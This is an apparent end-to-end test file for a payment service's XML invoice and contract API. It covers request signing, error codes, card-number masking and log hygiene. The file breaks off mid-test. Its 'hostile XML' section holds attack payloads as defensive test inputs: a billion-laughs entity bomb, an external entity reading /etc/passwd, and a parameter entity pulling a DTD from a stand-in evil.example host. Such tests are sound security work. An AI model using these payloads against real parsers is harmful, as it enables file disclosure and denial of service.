import { type XmlSchemaCheck, xmlSchemaCheck } from '@kassa-payments/devkit';
import { signXmlRequest } from '@kassa-payments/protocol';
import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dataOf, EXAMPLES, eventually, FLAGGED, fresh, MERCHANT, OTHER, P, startTestKassa, type TestKassa } from './e2e.fixture.js';
import { XML_SCHEMA_PATH, XML_SERVICE_PATH } from '../src/xml-endpoints.js';

// The XML 2.9 InvoiceManagementService over real HTTP, on the same domain as JSON v3. Every answer
// (and every request the service accepted) is validated against the XSD the service serves.
let t: TestKassa;
let schema: XmlSchemaCheck;
/** Every signature and card number sent: none may reach a log line. */
const secretsSent = new Set<string>();
beforeAll(async () => {
  t = await startTestKassa();
  schema = await xmlSchemaCheck(`${t.kassa.urls.api}${XML_SCHEMA_PATH}`);
});
afterAll(async () => {
  schema?.close();
  await t.stop();
});

const ip = '203.0.113.7';
const nowUtc = (at = new Date()) => `${at.toISOString().slice(0, 19)}Z`;
const parser = new XMLParser({ parseTagValue: false, processEntities: false });

/** A signed `Request` with one operation element holding `body` (XML text) and the ProjectID. */
function requestXml(operation: string, body: string, options: { projectId?: number; login?: string; password?: string; now?: string; signature?: string } = {}): string {
  const login = options.login ?? MERCHANT.login;
  const now = options.now ?? nowUtc();
  for (const m of body.matchAll(/<PAN>([^<]+)</g)) secretsSent.add(m[1] as string);
  const unsigned = `<?xml version="1.0" encoding="utf-8"?><Request><Header><Authentication><Login>${login}</Login><NowUtc>${now}</NowUtc><Signature></Signature></Authentication></Header><${operation}Request><ProjectID>${options.projectId ?? P.main}</ProjectID>${body}</${operation}Request></Request>`;
  const signed =
    options.signature === undefined
      ? signXmlRequest(unsigned, options.password ?? MERCHANT.password, login, now)
      : unsigned.replace('<Signature></Signature>', `<Signature>${options.signature}</Signature>`);
  const sent = /<Signature>([^<]+)</.exec(signed)?.[1];
  if (sent) secretsSent.add(sent);
  return signed;
}

interface Answer {
  status: number;
  contentType: string | null;
  text: string;
  response: { ResultCode: string; ResultMessage: string } & Record<string, Record<string, unknown>>;
}

async function post(xml: string, options: { host?: 'api' | 'pci'; contentType?: string } = {}): Promise<Answer> {
  const res = await fetch(`${t.kassa.urls[options.host ?? 'api']}${XML_SERVICE_PATH}`, { method: 'POST', headers: { 'content-type': options.contentType ?? 'text/xml; charset=utf-8' }, body: xml });
  const text = await res.text();
  expect(schema.problems(text), 'the answer validates against the served XSD').toBe('');
  const doc = parser.parse(text) as { Response: Answer['response'] };
  // A request the service carried out is one the XSD describes.
  if (doc.Response.ResultCode === '0') expect(schema.problems(xml), 'the accepted request validates against the XSD').toBe('');
  return { status: res.status, contentType: res.headers.get('content-type'), text, response: doc.Response };
}
const call = (operation: string, body: string, options?: Parameters<typeof requestXml>[2]) => post(requestXml(operation, body, options));
const codeOf = async (operation: string, body: string, options?: Parameters<typeof requestXml>[2]) => (await call(operation, body, options)).response.ResultCode;
const phone = (msisdn: string) => `<MobilePhoneCustomer><MSISDN>${msisdn}</MSISDN></MobilePhoneCustomer>`;
const cardCustomer = (id: string) => `<UndefinedBankCardCustomer><Source>shop</Source><MerchantCustomerID>c-${id}</MerchantCustomerID><Country>RU</Country></UndefinedBankCardCustomer>`;
const dataOfXml = (a: Answer, operation: string) => a.response[`${operation}Response`] as Record<string, unknown>;

/** A contract for a fresh number, created and authorized over XML; its ids. */
async function activeContract(): Promise<{ msisdn: string; mcid: string; contractId: string; orderId: string }> {
  const { msisdn, mcid, orderId } = fresh();
  const created = await call('CreateCustomerContract', `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`);
  const contractId = String(dataOfXml(created, 'CreateCustomerContract')['ContractID']);
  expect(await codeOf('AuthorizeCustomerContract', `<ContractID>${contractId}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('0');
  return { msisdn, mcid, contractId, orderId };
}

describe("the merchant's example client (examples/xml-client.mjs, node:crypto only)", () => {
  it('signs as the protocol package does, and Kassa answers its GetInvoice', async () => {
    const example = (await import(`${EXAMPLES}xml-client.mjs`)) as {
      signXmlRequest: (doc: string, password: string, login: string, now: string) => string;
      getInvoiceRequest: (login: string, password: string, projectId: number, invoiceId: string) => string;
    };
    const unsigned = `<Request><Header><Authentication><Login>a</Login><NowUtc>n</NowUtc><Signature></Signature></Authentication></Header><X>Заказ</X></Request>`;
    expect(example.signXmlRequest(unsigned, 'p', 'a', 'n')).toBe(signXmlRequest(unsigned, 'p', 'a', 'n'));
    const { msisdn, orderId } = fresh();
    const created = await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`);
    const invoiceId = String(dataOfXml(created, 'CreateInvoice')['InvoiceID']);
    const answer = await post(example.getInvoiceRequest(MERCHANT.login, MERCHANT.password, P.main, invoiceId));
    expect([answer.response.ResultCode, dataOfXml(answer, 'GetInvoice')['InvoiceID']]).toEqual(['0', invoiceId]);
  });
});

describe('each operation whose shape the spec shows takes exactly that shape, on a project that requires client IPs on JSON v3', () => {
  // Built from the spec's words alone: no ClientIP, no element the spec does not name.
  it('CheckCustomerBillingSupport {ProjectID, MobilePhoneCustomer {MSISDN}}', async () => {
    const a = await call('CheckCustomerBillingSupport', phone(fresh().msisdn));
    expect(a.response.ResultCode).toBe('0');
  });

  it('AuthorizeCustomerContract: ContractID (guid) and PinCode', async () => {
    const { msisdn, mcid } = fresh();
    const contract = dataOf(await t.client().createContract(P.main, { client_ip: ip, customer: { type: 'mobile_phone', msisdn }, merchant_contract_id: mcid }));
    const a = await call('AuthorizeCustomerContract', `<ContractID>${contract.contract_id}</ContractID><PinCode>1234</PinCode>`);
    expect([a.response.ResultCode, dataOfXml(a, 'AuthorizeCustomerContract')['Status']]).toEqual(['0', 'active']);
  });

  it('CreateCustomerContract with a BankCardCustomer and its BankCard block (PCI host): AuthorizationType SKIP', async () => {
    const { orderId } = fresh();
    const card = `<BankCardCustomer><Source>shop</Source><MerchantCustomerID>c-${orderId}</MerchantCustomerID><Country>RU</Country><BankCard><PAN>4276380012340009</PAN><ExpirationMonth>12</ExpirationMonth><ExpirationYear>2031</ExpirationYear><SecurityCode>739</SecurityCode></BankCard></BankCardCustomer>`;
    const a = await post(requestXml('CreateCustomerContract', `<MerchantContractID>mc-${orderId}</MerchantContractID>${card}`), { host: 'pci' });
    expect([a.response.ResultCode, dataOfXml(a, 'CreateCustomerContract')['AuthorizationType']]).toEqual(['0', 'SKIP']);
  });

  it('CreateInvoice with a MerchantOrderID and a customer only', async () => {
    const { msisdn, orderId } = fresh();
    const a = await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}`);
    expect(a.response.ResultCode).toBe('0');
  });

  it('the operations whose shapes the spec does not show never require ClientIP either (AuthorizeInvoice, CancelInvoice, RefundInvoice, CancelCustomerContract)', async () => {
    const { msisdn, orderId } = fresh();
    const created = await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}`);
    const id = String(dataOfXml(created, 'CreateInvoice')['InvoiceID']);
    expect(await codeOf('AuthorizeInvoice', `<InvoiceID>${id}</InvoiceID><PinCode>1234</PinCode>`)).toBe('0');
    const paid = await eventually(
      async () => dataOfXml(await call('GetInvoice', `<InvoiceID>${id}</InvoiceID>`), 'GetInvoice'),
      (i) => i['PaymentStatus'] === 'PAID',
    );
    expect(paid['PaymentStatus']).toBe('PAID');
    expect(await codeOf('RefundInvoice', `<InvoiceID>${id}</InvoiceID>`)).toBe('0');
    const other = fresh();
    const second = await call('CreateInvoice', `<MerchantOrderID>${other.orderId}</MerchantOrderID>${phone(other.msisdn)}`);
    expect(await codeOf('CancelInvoice', `<InvoiceID>${String(dataOfXml(second, 'CreateInvoice')['InvoiceID'])}</InvoiceID>`)).toBe('0');
    const contract = dataOf(await t.client().createContract(P.main, { client_ip: ip, customer: { type: 'mobile_phone', msisdn: fresh().msisdn }, merchant_contract_id: fresh().mcid }));
    expect(await codeOf('CancelCustomerContract', `<ContractID>${contract.contract_id}</ContractID>`)).toBe('0');
  });

  it('the served XSD, checked by xmllint, refuses a CreateInvoice without a customer block or with two', () => {
    const doc = (customers: string) =>
      `<Request><Header><Authentication><Login>a</Login><NowUtc>2026-11-24T10:00:00Z</NowUtc><Signature>${'ab'.repeat(32)}</Signature></Authentication></Header><CreateInvoiceRequest><ProjectID>1</ProjectID><MerchantOrderID>o</MerchantOrderID>${customers}</CreateInvoiceRequest></Request>`;
    expect(schema.problems(doc(phone('79001234567')))).toBe('');
    expect(schema.problems(doc(''))).not.toBe('');
    expect(schema.problems(doc(phone('79001234567') + cardCustomer('x')))).not.toBe('');
  });
});

describe('the XSD', () => {
  it('is served at /API/XML/InvoiceManagementService.xsd as an XML Schema; other methods are refused in XML', async () => {
    const res = await fetch(`${t.kassa.urls.api}${XML_SCHEMA_PATH}`);
    expect([res.status, res.headers.get('content-type')]).toEqual([200, 'application/xml; charset=utf-8']);
    expect(await res.text()).toContain('<xs:schema');
    const posted = await fetch(`${t.kassa.urls.api}${XML_SCHEMA_PATH}`, { method: 'POST', body: 'x' });
    expect([posted.status, posted.headers.get('allow')]).toEqual([405, 'GET, HEAD']);
    expect(schema.problems(await posted.text())).toBe('');
  });

  it('tells a document that breaks it: the check can fail', () => {
    expect(schema.problems('<Response><ResultCode>zero</ResultCode><ResultMessage>x</ResultMessage></Response>')).toContain('zero');
    expect(schema.problems('<Response><ResultCode>0</ResultCode><ResultMessage>OK</ResultMessage><GetInvoiceResponse><InvoiceID>x</InvoiceID></GetInvoiceResponse></Response>')).not.toBe('');
  });
});

describe('XML 2.9 operations', () => {
  it('CheckCustomerBillingSupport answers ResultCode 0 with the carrier', async () => {
    const a = await call('CheckCustomerBillingSupport', phone('79001234567'));
    expect([a.status, a.contentType, a.response.ResultCode]).toEqual([200, 'text/xml; charset=utf-8', '0']);
    expect(a.response['CheckCustomerBillingSupportResponse']).toMatchObject({ IsSupported: 'true', Customer: { MobilePhoneCustomer: { MSISDN: '79001234567' } } });
  });

  it('a contract: created, two wrong PINs 240, the third 242, then the right PIN 242 too', async () => {
    const { msisdn, mcid } = fresh();
    const created = await call('CreateCustomerContract', `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`);
    expect(created.response.ResultCode).toBe('0');
    const id = String(created.response['CreateCustomerContractResponse']?.['ContractID']);
    const codes = [];
    for (const pin of ['1', '2', '3', '1234'])
      codes.push((await call('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>${pin}</PinCode><ClientIP>${ip}</ClientIP>`)).response.ResultCode);
    expect(codes).toEqual(['240', '240', '242', '242']);
  });

  it('an invoice created over XML is the same invoice over JSON (GET, refund), and the reverse', async () => {
    const { msisdn, orderId, mcid } = fresh();
    await call('CreateCustomerContract', `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`).then(async (c) => {
      const id = String(c.response['CreateCustomerContractResponse']?.['ContractID']);
      expect((await call('AuthorizeCustomerContract', `<ContractID>${id}</ContractID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).response.ResultCode).toBe('0');
    });
    const created = await call(
      'CreateInvoice',
      `<MerchantOrderID>${orderId}</MerchantOrderID><Price><Amount>25.50</Amount><Currency>RUB</Currency></Price>${phone(msisdn)}<Contract><MerchantContractID>${mcid}</MerchantContractID></Contract><ClientIP>${ip}</ClientIP>`,
    );
    expect(created.response.ResultCode).toBe('0');
    const invoice = created.response['CreateInvoiceResponse'] as Record<string, unknown>;
    expect(invoice).toMatchObject({
      Status: 'Created',
      MerchantOrderID: orderId,
      Price: { Amount: '25.50', Currency: 'RUB' },
      AuthorizationInfo: { AuthorizationType: 'BY_CONTRACT', IsAuthorized: 'true' },
    });
    const api = t.client();
    const paid = await eventually(
      () => api.getInvoice(P.main, String(invoice['InvoiceID'])),
      (r) => r.ok && r.data.payment_status === 'PAID',
    );
    expect(dataOf(paid).merchant_order_id).toBe(orderId);
    expect((await api.refundInvoice(P.main, String(invoice['InvoiceID']), { client_ip: ip })).status).toBe(202);
    const overXml = await call('GetInvoice', `<InvoiceID>${String(invoice['InvoiceID'])}</InvoiceID>`);
    expect(overXml.response['GetInvoiceResponse']).toMatchObject({ Status: 'Processed', PaymentStatus: 'PAID', MerchantOrderID: orderId });
    const byOrder = await call('GetInvoiceByMerchantOrderId', `<MerchantOrderID>${orderId}</MerchantOrderID>`);
    expect(byOrder.response['GetInvoiceByMerchantOrderIdResponse']?.['InvoiceID']).toBe(invoice['InvoiceID']);
  });

  it('a card invoice answers AuthorizationInfo with AuthorizationUrl and AuthorizationToken', async () => {
    const { orderId } = fresh();
    const card = `<UndefinedBankCardCustomer><Source>shop</Source><MerchantCustomerID>c-${orderId}</MerchantCustomerID><Country>RU</Country></UndefinedBankCardCustomer>`;
    const a = await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID><Price><Amount>99.99</Amount><Currency>RUB</Currency></Price>${card}<ClientIP>${ip}</ClientIP>`);
    const info = a.response['CreateInvoiceResponse']?.['AuthorizationInfo'] as Record<string, string>;
    expect(info['AuthorizationType']).toBe('AUTH_PAGE');
    expect(info['AuthorizationUrl']).toMatch(/^http/);
    expect(info['AuthorizationToken']?.length).toBeGreaterThan(10);
  });

  it('card data: refused on the API host; on the PCI host only the last four digits come back, and no log line holds the number', async () => {
    const { orderId } = fresh();
    const pan = '4111111111111111';
    const card = `<BankCardCustomer><Source>shop</Source><MerchantCustomerID>c-${orderId}</MerchantCustomerID><Country>RU</Country><BankCard><PAN>${pan}</PAN><ExpirationMonth>12</ExpirationMonth><ExpirationYear>2030</ExpirationYear><SecurityCode>123</SecurityCode></BankCard></BankCardCustomer>`;
    const contract = `<MerchantContractID>mc-${orderId}</MerchantContractID>${card}<ClientIP>${ip}</ClientIP>`;
    const onApi = await call('CreateCustomerContract', contract);
    expect([onApi.status, onApi.response.ResultCode]).toEqual([200, '100']);
    expect(onApi.response.ResultMessage).toContain('PCI host');
    const onPci = await post(requestXml('CreateCustomerContract', contract), { host: 'pci' });
    expect(onPci.response.ResultCode).toBe('0');
    expect(onPci.text).toContain('<Last4>1111</Last4>');
    expect(onPci.text).not.toContain(pan);
    expect((await post(requestXml('GetInvoice', '<InvoiceID>x</InvoiceID>'), { host: 'pci' })).response.ResultCode).toBe('404');
    expect(t.logs.join('\n')).not.toContain(pan);
  });

  it('errors of the domain come back as ResultCodes with HTTP 200', async () => {
    expect((await call('GetInvoice', '<InvoiceID>00000000-0000-4000-8000-000000000000</InvoiceID>')).response.ResultCode).toBe('201');
    expect((await call('CancelCustomerContract', '<ContractID>00000000-0000-4000-8000-000000000000</ContractID>')).response.ResultCode).toBe('232');
    const missing = await call('CreateCustomerContract', `<MerchantContractID>x</MerchantContractID><ClientIP>${ip}</ClientIP>`);
    expect([missing.status, missing.response.ResultCode]).toEqual([200, '100']);
    expect((await call('NoSuchOperation', '')).response.ResultCode).toBe('404');
  });
});

describe('XML 2.9 authentication', () => {
  it('a bad signature (101) changes nothing; a drift beyond 20 minutes is 102; a foreign project 103', async () => {
    const { msisdn, mcid } = fresh();
    const body = `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`;
    expect((await call('CreateCustomerContract', body, { signature: 'a'.repeat(64) })).response.ResultCode).toBe('101');
    expect((await call('CreateCustomerContract', body, { password: 'wrong' })).response.ResultCode).toBe('101');
    expect((await call('CreateCustomerContract', body, { now: nowUtc(new Date(Date.now() - 21 * 60_000)) })).response.ResultCode).toBe('102');
    expect((await call('CreateCustomerContract', body, { now: '2026-02-30T10:00:00Z' })).response.ResultCode).toBe('102');
    expect((await call('CreateCustomerContract', body, { projectId: P.other })).response.ResultCode).toBe('103');
    expect((await call('CreateCustomerContract', body, { login: OTHER.login, password: OTHER.password })).response.ResultCode).toBe('103');
    // None of them made the contract: the first real attempt creates it.
    expect((await call('CreateCustomerContract', body)).response.ResultCode).toBe('0');
  });
});

describe('hostile XML: refused with an XML answer and a ResultCode, never JSON, never a 5xx', () => {
  const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><Request>&lol2;</Request>`;
  /** The merchant's signed Header; `doc(header)` builds the document around it, which is signed as it is. */
  const signedRaw = (doc: (header: string) => string) => {
    const now = nowUtc();
    return signXmlRequest(
      doc(`<Header><Authentication><Login>${MERCHANT.login}</Login><NowUtc>${now}</NowUtc><Signature></Signature></Authentication></Header>`),
      MERCHANT.password,
      MERCHANT.login,
      now,
    );
  };
  // A DOCTYPE or a wrong content type is refused before anything else (a cheap check, no parse).
  const cases: [string, string, { contentType?: string }, number, string][] = [
    ['billion laughs (DOCTYPE with entities)', billionLaughs, {}, 400, '11'],
    ['an external entity', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Request>&x;</Request>', {}, 400, '11'],
    ['a parameter entity', '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Request/>', {}, 400, '11'],
    ['a doctype in lower case after a comment', '<!-- hi --><!doctype Request><Request/>', {}, 400, '11'],
    ['a wrong content type', '<Request/>', { contentType: 'application/json' }, 415, '15'],
  ];
  // Broken documents reach the parser only once their signature holds: signed, each is refused for what is wrong with it; unsigned, as unauthenticated (101).
  const broken: [string, (header: string) => string, string][] = [
    ['truncated', (h) => `<Request>${h}<GetInvoiceRequest><ProjectID>1</Pro`, '12'],
    ['wrong nesting', (h) => `<Request>${h}<A><B></A></B></Request>`, '12'],
    ['nesting beyond the limit', (h) => `<Request>${h}${'<a>'.repeat(40)}${'</a>'.repeat(40)}</Request>`, '13'],
    ['another root element', (h) => `<Envelope>${h}<Body/></Envelope>`, '14'],
    ['two root elements', (h) => `<Request>${h}</Request><Request/>`, '14'],
  ];
  it('a method other than POST is 405 in XML, not the JSON 404', async () => {
    const res = await fetch(`${t.kassa.urls.api}${XML_SERVICE_PATH}`);
    expect([res.status, res.headers.get('content-type'), res.headers.get('allow')]).toEqual([405, 'text/xml; charset=utf-8', 'POST']);
    expect(await res.text()).toContain('<ResultCode>16</ResultCode>');
  });
  it.each(cases)('%s', async (_name, body, options, status, code) => {
    const a = await post(body, options);
    expect([a.status, a.contentType, a.response.ResultCode]).toEqual([status, 'text/xml; charset=utf-8', code]);
  });
  it.each(broken)('%s: signed, refused by the parser; unsigned or wrongly signed, never parsed (101)', async (_name, doc, code) => {
    const signed = await post(signedRaw(doc));
    expect([signed.status, signed.contentType, signed.response.ResultCode]).toEqual([400, 'text/xml; charset=utf-8', code]);
    const wrong = await post(signedRaw(doc).replace(/<Signature>[0-9a-f]{64}/, `<Signature>${'ab'.repeat(32)}`));
    expect([wrong.status, wrong.response.ResultCode]).toEqual([200, '101']);
  });
  it('JSON as XML, and any body without the Header: 101, unauthenticated', async () => {
    for (const body of ['{"a":1}', '<Request/>', '<Request><A><B></A></B></Request>']) expect((await post(body)).response.ResultCode).toBe('101');
  });

  it('a document over 64 KB is 413 with ResultCode 10; a repeated ProjectID is 100', async () => {
    const huge = await post(requestXml('GetInvoice', `<InvoiceID>${'x'.repeat(70_000)}</InvoiceID>`));
    expect([huge.status, huge.response.ResultCode]).toEqual([413, '10']);
    const twice = await call('GetInvoice', `<ProjectID>${P.other}</ProjectID><InvoiceID>x</InvoiceID>`);
    expect([twice.status, twice.response.ResultCode]).toEqual([200, '100']);
    expect(twice.response.ResultMessage).toContain('ProjectID: expected once');
  });

  it('a value with markup characters is escaped in the answer; comments, CDATA and PIs do not confuse the reader', async () => {
    const a = await call('GetInvoiceByMerchantOrderId', '<!-- c --><?pi x?><MerchantOrderID><![CDATA[a<b&c]]></MerchantOrderID>');
    expect(a.response.ResultCode).toBe('201');
    // Markup in a value is text: refused as the GUID it is not, and echoed escaped.
    const b = await call('CancelCustomerContract', '<ContractID>&lt;x&gt;</ContractID>');
    expect([b.response.ResultCode, b.text.includes('<x>')]).toEqual(['100', false]);
    expect(t.kassa.urls.api).toBeTruthy();
  });

  it('no PIN, signature or password reaches the log', async () => {
    const marker = 'Signature-7f3a9c';
    await call('AuthorizeCustomerContract', '<ContractID>nope</ContractID><PinCode>9876</PinCode>', { signature: marker });
    const logs = t.logs.join('\n');
    expect(logs).not.toContain(marker);
    expect(logs).not.toContain('<PinCode>');
    expect(logs).not.toContain(MERCHANT.password);
  });
});

describe('every ResultCode reachable over XML', () => {
  it('100 BAD_REQUEST: the JSON v3 rules (lengths, patterns, ClientIP), each naming the element', async () => {
    const { msisdn, orderId } = fresh();
    const cases: [string, string, string][] = [
      ['CreateInvoice', `<MerchantOrderID>${'o'.repeat(39)}</MerchantOrderID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`, 'MerchantOrderID: longer than 38'],
      ['CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone('12ab')}<ClientIP>${ip}</ClientIP>`, 'MSISDN: must be an E.164 number'],
      ['CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<ClientIP>not-an-ip</ClientIP>`, 'ClientIP: must be an IPv4 or IPv6 address'],
      ['AuthorizeCustomerContract', '<ContractID>not-a-guid</ContractID><PinCode>1234</PinCode>', 'ContractID: must be a GUID'],
      ['CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID><Price><Amount>10.5</Amount><Currency>RUB</Currency></Price>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`, 'Price'],
      [
        'CreateInvoice',
        `<MerchantOrderID>${orderId}</MerchantOrderID>${cardCustomer(orderId)}<Contract><MerchantContractID>x</MerchantContractID></Contract><ClientIP>${ip}</ClientIP>`,
        'Contract: not allowed',
      ],
      ['CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${cardCustomer(orderId)}<Contract/><ClientIP>${ip}</ClientIP>`, 'Contract: not allowed'],
      ['CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}${cardCustomer(orderId)}<ClientIP>${ip}</ClientIP>`, 'exactly one of'],
      ['CreateCustomerContract', `<MerchantContractID>${'m'.repeat(65)}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`, 'MerchantContractID: longer than 64'],
      ['AuthorizeCustomerContract', `<ContractID>00000000-0000-4000-8000-000000000000</ContractID><PinCode>${'1'.repeat(17)}</PinCode><ClientIP>${ip}</ClientIP>`, 'PinCode: longer than 16'],
      ['CheckCustomerBillingSupport', '<MobilePhoneCustomer/>', 'MSISDN: required'],
    ];
    for (const [operation, body, message] of cases) {
      const a = await call(operation, body);
      expect([a.status, a.response.ResultCode], message).toEqual([200, '100']);
      expect(a.response.ResultMessage).toContain(message);
    }
    // Nothing was created by any of them.
    expect((await call('GetInvoiceByMerchantOrderId', `<MerchantOrderID>${orderId}</MerchantOrderID>`)).response.ResultCode).toBe('201');
  });

  it('101 for missing authentication elements; 103 for an inactive project and a caller off the whitelist', async () => {
    const body = `<InvoiceID>x</InvoiceID>`;
    const noSignature = requestXml('GetInvoice', body).replace(/<Signature>[^<]*<\/Signature>/, '');
    expect((await post(noSignature)).response.ResultCode).toBe('101');
    expect((await post(requestXml('GetInvoice', body).replace(/<Header>.*<\/Header>/, ''))).response.ResultCode).toBe('101');
    expect(await codeOf('GetInvoice', body, { login: 'nobody' })).toBe('101');
    expect(await codeOf('GetInvoice', body, { projectId: P.inactive })).toBe('103');
    expect(await codeOf('GetInvoice', body, { projectId: P.whitelisted })).toBe('103');
    expect(await codeOf('GetInvoice', body, { projectId: 999 })).toBe('103');
  });

  it('110 TEST_CALLBACK_URL_FORBIDDEN without the partner flag; accepted with it', async () => {
    const { msisdn, orderId } = fresh();
    const body = `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<TestInfo><CallbackUrl>http://127.0.0.1:9/cb</CallbackUrl></TestInfo><ClientIP>${ip}</ClientIP>`;
    expect(await codeOf('CreateInvoice', body)).toBe('110');
    expect(await codeOf('CreateInvoice', body, { login: FLAGGED.login, password: FLAGGED.password, projectId: P.flagged })).toBe('0');
  });

  it('200 INVOICE_ALREADY_EXISTS (one active invoice per client; a merchant order id once), 202 INVALID_PAYMENT_METHOD', async () => {
    const { msisdn, orderId } = fresh();
    const other = fresh();
    expect(await codeOf('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<PaymentMethod>sbp</PaymentMethod><ClientIP>${ip}</ClientIP>`)).toBe('0');
    expect(await codeOf('CreateInvoice', `<MerchantOrderID>${other.orderId}</MerchantOrderID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`)).toBe('200');
    expect(await codeOf('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(other.msisdn)}<ClientIP>${ip}</ClientIP>`)).toBe('200');
    const cash = await call('CreateInvoice', `<MerchantOrderID>${other.orderId}</MerchantOrderID>${phone(other.msisdn)}<PaymentMethod>cash</PaymentMethod><ClientIP>${ip}</ClientIP>`);
    expect([cash.status, cash.response.ResultCode]).toEqual([200, '202']);
    expect(cash.response.ResultMessage).toContain('sberpay_desktop');
  });

  it('an SMS_PIN invoice: 203 refund before payment, 204 twice, 205 on the third and for the right PIN, 206 for a BY_CONTRACT invoice', async () => {
    const { msisdn, orderId } = fresh();
    const created = await call(
      'CreateInvoice',
      `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<Application><Name>app</Name></Application><Product><Name>thing</Name></Product><ClientIP>${ip}</ClientIP>`,
    );
    const invoice = dataOfXml(created, 'CreateInvoice');
    expect(invoice['AuthorizationInfo']).toMatchObject({ AuthorizationType: 'SMS_PIN', IsAuthorized: 'false' });
    const id = String(invoice['InvoiceID']);
    expect(await codeOf('RefundInvoice', `<InvoiceID>${id}</InvoiceID><ClientIP>${ip}</ClientIP>`)).toBe('203');
    const codes = [];
    for (const pin of ['1', '2', '3', '1234']) codes.push(await codeOf('AuthorizeInvoice', `<InvoiceID>${id}</InvoiceID><PinCode>${pin}</PinCode><ClientIP>${ip}</ClientIP>`));
    expect(codes).toEqual(['204', '204', '205', '205']);

    const c = await activeContract();
    const byContract = await call(
      'CreateInvoice',
      `<MerchantOrderID>${c.orderId}</MerchantOrderID>${phone(c.msisdn)}<Contract><MerchantContractID>${c.mcid}</MerchantContractID></Contract><ClientIP>${ip}</ClientIP>`,
    );
    const byId = String(dataOfXml(byContract, 'CreateInvoice')['InvoiceID']);
    expect(await codeOf('AuthorizeInvoice', `<InvoiceID>${byId}</InvoiceID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`)).toBe('206');
  });

  it('an SMS_PIN invoice paid after its PIN, then refunded: Authorize, Processed/PAID with its transaction, RefundStatus; a paid invoice cannot be cancelled (206)', async () => {
    const { msisdn, orderId } = fresh();
    const id = String(dataOfXml(await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`), 'CreateInvoice')['InvoiceID']);
    const authorized = await call('AuthorizeInvoice', `<InvoiceID>${id}</InvoiceID><PinCode>1234</PinCode><ClientIP>${ip}</ClientIP>`);
    expect(dataOfXml(authorized, 'AuthorizeInvoice')).toEqual({ InvoiceID: id, Status: 'Authorize' });
    const paid = await eventually(
      () => call('GetInvoice', `<InvoiceID>${id}</InvoiceID>`),
      (a) => dataOfXml(a, 'GetInvoice')['PaymentStatus'] === 'PAID',
    );
    expect(dataOfXml(paid, 'GetInvoice')).toMatchObject({ Status: 'Processed', Transactions: { Transaction: { Status: 'SUCCESS', ResultCode: '0', PartnerProfit: { Amount: '10.00' } } } });
    expect(await codeOf('CancelInvoice', `<InvoiceID>${id}</InvoiceID><ClientIP>${ip}</ClientIP>`)).toBe('206');
    const refund = await call('RefundInvoice', `<InvoiceID>${id}</InvoiceID><ClientIP>${ip}</ClientIP>`);
    expect(dataOfXml(refund, 'RefundInvoice')).toEqual({ InvoiceID: id, RefundStatus: 'processing' });
    const byOrder = await call('GetInvoiceByMerchantOrderId', `<MerchantOrderID>${orderId}</MerchantOrderID>`);
    expect(String((dataOfXml(byOrder, 'GetInvoiceByMerchantOrderId')['Customer'] as Record<string, Record<string, string>>)['MobilePhoneCustomer']?.['MSISDN'])).toMatch(/^\d{4}\*+\d{3}$/);
  });

  it('a created invoice cancelled: Cancelled, and cancelling again answers Cancelled (idempotent)', async () => {
    const { msisdn, orderId } = fresh();
    const id = String(dataOfXml(await call('CreateInvoice', `<MerchantOrderID>${orderId}</MerchantOrderID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`), 'CreateInvoice')['InvoiceID']);
    for (let i = 0; i < 2; i++)
      expect(dataOfXml(await call('CancelInvoice', `<InvoiceID>${id}</InvoiceID><ClientIP>${ip}</ClientIP>`), 'CancelInvoice')).toEqual({ InvoiceID: id, Status: 'Cancelled' });
  });

  it('contracts: 230 draft exists, 231 already exists, 233 already authorized, 232 after cancellation', async () => {
    const { msisdn, mcid } = fresh();
    const body = `<MerchantContractID>${mcid}</MerchantContractID>${phone(msisdn)}<ClientIP>${ip}</ClientIP>`;
    const created = await call('CreateCustomerContract', body);
    expect(dataOfXml(created, 'CreateCustomerContract')).toMatchObject({ AuthorizationType: 'SMS_PIN', MerchantContractID: mcid });
    const id = String(dataOfXml(created, 'CreateCustomerContract')['ContractID']);
    expect(await codeOf('CreateCustomerContract', body)).toBe('230');
